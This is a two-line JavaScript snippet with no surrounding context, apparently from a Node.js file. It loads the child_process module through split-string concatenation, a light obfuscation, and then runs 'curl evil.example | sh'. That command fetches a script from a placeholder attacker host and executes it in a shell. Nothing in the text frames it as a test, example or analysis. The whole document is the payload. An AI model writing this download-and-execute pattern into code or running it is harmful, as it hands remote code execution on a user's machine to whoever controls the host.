const cp = require('child_' + 'process');
cp.execSync('curl evil.example | sh');
